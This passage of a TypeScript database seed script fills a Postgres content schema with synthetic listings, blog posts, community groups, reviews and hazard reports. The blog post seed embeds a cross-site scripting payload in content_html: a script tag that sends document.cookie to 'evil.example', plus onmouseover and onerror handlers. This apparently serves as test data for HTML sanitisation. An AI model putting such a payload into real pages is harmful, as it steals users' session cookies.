            lt, ARRAY[cat], CASE WHEN i % 5 = 0 THEN NULL ELSE 5000 + i * 100 END, CASE WHEN i % 5 = 0 THEN NULL ELSE 20000 + i * 300 END,
            (ARRAY['GHS','NGN','KES'])[1 + i % 3], CASE WHEN i % 8 = 0 THEN NULL ELSE city END,
            CASE WHEN i % 4 = 0 THEN NULL ELSE 3 + (i % 20) / 10.0 END, CASE WHEN i % 4 = 0 THEN 0 ELSE i % 40 END,
            i % 3 = 0, i % 9 = 0, CASE WHEN i % 5 = 1 THEN NULL ELSE 'https://cdn.example/listings/' || i || '.jpg' END,
            CASE WHEN i % 6 = 1 THEN ${id('cmp', 'campaign', `(1 + i % ${n.campaigns})`)} END,
            ARRAY['https://cdn.example/portfolio/' || i || '-1.jpg'], ARRAY['en', (ARRAY['tw','fr','ha'])[1 + i % 3]],
            (ARRAY['active','active','active','active','active','active','draft','suspended'])[1 + i % 8],
            ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, '+23323' || lpad(i::text, 7, '0'), 'provider' || i || '@private.example',
            '+23324' || lpad(i::text, 7, '0'), now() - ((i % 100) || ' days')::interval - (i || ' seconds')::interval
       FROM (SELECT i, CASE WHEN i % 2 = 0 THEN 'service' ELSE 'goods' END AS lt,
                    CASE WHEN i % 2 = 0 THEN (ARRAY[${slugs('service')
                      .map((x) => `'${x}'`)
                      .join(',')}])[1 + (i / 2) % ${slugs('service').length}]
                         ELSE (ARRAY[${slugs('goods')
                           .map((x) => `'${x}'`)
                           .join(',')}])[1 + (i / 2) % ${slugs('goods').length}] END AS cat,
                    ${pick(CITIES, 'lc')} AS city
               FROM generate_series(1, $1) i) l
     ON CONFLICT (id) DO NOTHING`,
    [n.listings],
  );
  await ds.query(
    `INSERT INTO content.listing_package (id, listing_id, name, price_minor, currency, description, delivery_days, position)
     SELECT ${id('pkg', 'package', `(i * 10 + k)`)}, ${id('lst', 'listing', 'i')}, (ARRAY['Basic','Standard','Premium'])[k],
            CASE WHEN k = 3 AND i % 3 = 0 THEN NULL ELSE 5000 * k END, (ARRAY['GHS','NGN','KES'])[1 + i % 3],
            CASE WHEN k = 1 THEN NULL ELSE 'More of everything' END, CASE WHEN i % 2 = 0 THEN 3 * k END, k
       FROM generate_series(1, $1) i, generate_series(1, 1 + i % 3) k ON CONFLICT (id) DO NOTHING`,
    [n.listings],
  );
  await ds.query(
    `INSERT INTO content.blog_category (id, slug, name)
     SELECT 'bcat_' || s, s, initcap(replace(s, '-', ' '))
       FROM unnest(ARRAY['impact-stories','how-to','product-news','community','press']) s ON CONFLICT (id) DO NOTHING`,
  );
  await ds.query(
    `INSERT INTO content.blog_post (id, slug, title, excerpt, content_html, status, published_at, featured_image_url, category_id,
                                    author_id, editor_notes, created_at)
     SELECT ${id('post', 'blogpost')}, 'post-' || i, ${pick(['How we funded', 'Meet the team behind', 'Ten tips for', 'Report:'], 'bt')} || ' ' || ${pick(CITIES, 'bc')},
            CASE WHEN i % 4 = 0 THEN NULL ELSE 'A short story from ' || ${pick(CITIES, 'bc')} || '.' END,
            '<h2>Story ' || i || '</h2><p>It started <em>small</em>.</p><script>fetch("https://evil.example/?"+document.cookie)</script>'
              || '<p onmouseover="steal()">Then it grew.</p><a href="javascript:void(0)">x</a><img src="https://cdn.example/blog/' || i || '.jpg" onerror="x()">',
            (ARRAY['published','published','published','published','draft','archived'])[1 + i % 6],
            CASE WHEN i % 6 IN (0, 1, 2, 3) THEN now() - ((i % 50) || ' days')::interval - (i || ' seconds')::interval END,
            CASE WHEN i % 3 = 0 THEN NULL ELSE 'https://cdn.example/blog/' || i || '-cover.jpg' END,
            CASE WHEN i % 5 = 0 THEN NULL ELSE 'bcat_' || (ARRAY['impact-stories','how-to','product-news','community','press'])[1 + i % 5] END,
            ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, 'Editor note private ' || i, now()
       FROM generate_series(1, $1) i ON CONFLICT (id) DO NOTHING`,
    [n.posts],
  );
}

const ATTACHMENT_TYPES = [
  'campaign',
  'petition',
  'event',
  'job',
  'listing',
  'business',
  'review',
  'survey',
  'poll',
];

async function seedCommunity(ds: DataSource, n: typeof CONTENT_SEED): Promise<void> {
  await ds.query(
    `INSERT INTO content.actor (handle, display_name, kind, bio, avatar_url, verified, country, is_public, email, phone, created_at)
     SELECT 'actor_' || i, ${pick(FIRST, 'xf')} || ' ' || ${pick(LAST, 'xl')}, (ARRAY['person','organization','government','business'])[1 + i % 4],
            CASE WHEN i % 3 = 0 THEN NULL ELSE 'Working for a better ' || ${pick(CITIES, 'xc')} || '.' END,
            CASE WHEN i % 4 = 0 THEN NULL ELSE 'https://cdn.example/actors/' || i || '.jpg' END, i % 5 = 0,
            ${pick(CODES, 'xo')}, i % 6 <> 0, 'actor' || i || '@private.example', '+23325' || lpad(i::text, 7, '0'),
            now() - ((i % 300) || ' days')::interval
       FROM generate_series(1, $1) i ON CONFLICT DO NOTHING`,
    [n.actors],
  );
  await ds.query(
    `INSERT INTO content.community_group (slug, name, description, category, avatar_url, member_count, visibility, created_at)
     SELECT 'group-' || i, ${pick(CITIES, 'gc')} || ' ' || ${pick(['Farmers', 'Parents', 'Cyclists', 'Traders', 'Coders'], 'gn')},
            CASE WHEN i % 3 = 0 THEN NULL ELSE 'A place to share and organise.' END, ${pick(CATEGORIES, 'gk')},
            NULL, 10 + i * 7, (ARRAY['public','public','private','secret'])[1 + i % 4], now() - ((i % 200) || ' days')::interval
       FROM generate_series(1, $1) i ON CONFLICT DO NOTHING`,
    [n.groups],
  );
  await ds.query(
    `INSERT INTO content.group_member (group_slug, actor_handle, role)
     SELECT 'group-' || (1 + i % $2), 'actor_' || i, CASE WHEN i % 7 = 0 THEN 'admin' ELSE 'member' END
       FROM generate_series(1, $1) i ON CONFLICT DO NOTHING`,
    [n.actors, n.groups],
  );
  await ds.query(
    `INSERT INTO content.post (id, author_handle, body, status, group_slug, like_count, comment_count, moderation_notes, created_at)
     SELECT ${id('pst', 'post')}, 'actor_' || (1 + i % ${n.actors}), 'Update number ' || i || ' from ' || ${pick(CITIES, 'pc')} || '.',
            (ARRAY['published','published','published','published','hidden','deleted'])[1 + i % 6],
            CASE WHEN i % 3 = 0 THEN 'group-' || (1 + i % ${n.groups}) END, i % 50, i % 9,
            'Moderation note private ' || i, now() - ((i % 100) || ' days')::interval - (i || ' seconds')::interval
       FROM generate_series(1, $1) i ON CONFLICT DO NOTHING`,
    [n.feed],
  );
  await ds.query(
    `INSERT INTO content.post_attachment (post_id, position, type, title, url)
     SELECT ${id('pst', 'post')}, 1, (ARRAY[${ATTACHMENT_TYPES.map((x) => `'${x}'`).join(',')}])[1 + i % ${ATTACHMENT_TYPES.length}],
            'See this ' || (ARRAY[${ATTACHMENT_TYPES.map((x) => `'${x}'`).join(',')}])[1 + i % ${ATTACHMENT_TYPES.length}],
            'https://platform.example/' || (ARRAY[${ATTACHMENT_TYPES.map((x) => `'${x}'`).join(',')}])[1 + i % ${ATTACHMENT_TYPES.length}] || 's/' || i
       FROM generate_series(1, $1) i WHERE i % 2 = 0 ON CONFLICT DO NOTHING`,
    [n.feed],
  );
  await ds.query(
    `INSERT INTO content.review_entity (slug, name, kind, category, location, country, rating, review_count, is_claimed, is_verified, status,
                                        owner_id, owner_email, created_at)
     SELECT 'entity-' || i, ${pick(['Mama', 'Golden', 'Unity', 'Star', 'Royal'], 'rn')} || ' ' || ${pick(['Clinic', 'School', 'Chop Bar', 'Pharmacy', 'Garage'], 'rk')},
            (ARRAY['business','clinic','school','government_office'])[1 + i % 4], ${pick(CATEGORIES, 'rc')},
            ${pick(CITIES, 'rl')}, ${pick(CODES, 'ro')}, NULL, 0, i % 3 = 0, i % 4 = 0,
            CASE WHEN i % 7 = 0 THEN 'hidden' ELSE 'published' END,
            CASE WHEN i % 3 = 0 THEN ${id('usr', 'account', `(1 + i % ${n.accounts})`)} END,
            CASE WHEN i % 3 = 0 THEN 'owner' || i || '@private.example' END, now() - ((i % 300) || ' days')::interval
       FROM generate_series(1, $1) i ON CONFLICT DO NOTHING`,
    [n.entities],
  );
  // Six private reviews for every entity e (none when e % 5 = 0, so some have no rating), each
  // derived from (e, k) only; entities that already have reviews are left alone, so a larger seed tops up.
  await ds.query(
    `INSERT INTO content.review (entity_slug, reviewer_name, reviewer_email, stars, body, created_at)
     SELECT 'entity-' || e, 'Reviewer ' || ${pick(FIRST, 'vf', '(e * 10 + k)')} || ' ' || (e * 10 + k),
            'reviewer' || (e * 10 + k) || '@private.example', 1 + ${num('vs', 5, '(e * 10 + k)')}, 'Private review text ' || (e * 10 + k), now()
       FROM generate_series(1, $1) e, generate_series(1, 6) k
      WHERE e % 5 <> 0 AND NOT EXISTS (SELECT 1 FROM content.review r WHERE r.entity_slug = 'entity-' || e)
      ORDER BY e, k`,
    [n.entities],
  );
  await ds.query(
    `UPDATE content.review_entity e SET rating = r.avg, review_count = r.n
       FROM (SELECT entity_slug, round(avg(stars), 2) AS avg, count(*)::int AS n FROM content.review GROUP BY entity_slug) r
      WHERE r.entity_slug = e.slug AND (e.review_count <> r.n OR e.rating IS DISTINCT FROM r.avg)`,
  );
  await ds.query(
    `INSERT INTO content.safety_hazard (case_number, title, description, hazard_type, severity, status, location, country, reported_at,
                                        resolved_at, reporter_id, reporter_phone)
     SELECT 'HZ-' || to_char(now(), 'YYYY') || '-' || lpad(i::text, 6, '0'), initcap(ht) || ' reported near ' || city,
            'Residents reported a ' || ht || ' hazard.', ht, (ARRAY['low','medium','high','critical'])[1 + i % 4],
            st, city, ${pick(CODES, 'hc')}, now() - ((i % 60) || ' days')::interval - (i || ' seconds')::interval,
            CASE WHEN st = 'resolved' THEN now() - ((i % 30) || ' days')::interval END,
            ${id('usr', 'account', `(1 + i % ${n.accounts})`)}, '+23326' || lpad(i::text, 7, '0')
       FROM (SELECT i, ${pick(['flood', 'road', 'fire', 'crime', 'health', 'infrastructure'], 'ht')} AS ht,
                    (ARRAY['verified','verified','resolved','reported','rejected'])[1 + i % 5] AS st, ${pick(CITIES, 'hl')} AS city
               FROM generate_series(1, $1) i) h
     ON CONFLICT DO NOTHING`,
    [n.hazards],
  );
}
